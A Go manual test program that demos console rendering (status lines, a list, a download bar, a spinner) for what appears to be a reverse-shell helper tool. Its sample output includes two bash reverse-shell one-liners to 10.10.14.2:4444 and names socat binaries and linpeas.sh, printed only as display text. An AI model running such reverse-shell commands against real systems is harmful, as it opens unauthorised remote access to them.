// tui-demo is a manual test program for checking console rendering.
// Run with: go run ./cmd/tui-demo
//
// It prints each status style, a list, a determinate download bar and an
// indeterminate spinner.
package main

import (
	"fmt"
	"os"
	"time"

	"github.com/thruflo/shelly/internal/download"
	"github.com/thruflo/shelly/internal/tui"
)

func main() {
	c := tui.NewConsole(os.Stdout)

	fmt.Println("TUI Demo - Console Rendering Test")
	fmt.Println("==================================")
	fmt.Println()

	c.Info("Revshells for %s:%d", "10.10.14.2", 4444)
	c.Success("Downloaded to %s", "~/.shelly/toolbox/socatx64.bin")
	c.Warn("Toolbox file missing for '%s', arch '%s'", "socat", "x86")
	c.Error("Raw upgrade failed: %v", "bind: address already in use")
	c.Println(c.Styles().List("bash", []string{
		"bash -i >& /dev/tcp/10.10.14.2/4444 0>&1",
		"bash -c 'bash -i >& /dev/tcp/10.10.14.2/4444 0>&1'",
	}))
	c.Println("")

	const total = 2 << 20
	bar := download.NewBarReporter(c, "socatx64.bin", total)
	for n := 0; n < total; n += 64 << 10 {
		bar.Add(64 << 10)
		time.Sleep(30 * time.Millisecond)
	}
	bar.Finish()
	c.Success("Bar finished")

	spin := download.NewBarReporter(c, "linpeas.sh", -1)
	for i := 0; i < 40; i++ {
		spin.Add(16 << 10)
		time.Sleep(50 * time.Millisecond)
	}
	spin.Finish()
	c.Success("Spinner finished")
	c.RingBell()
}
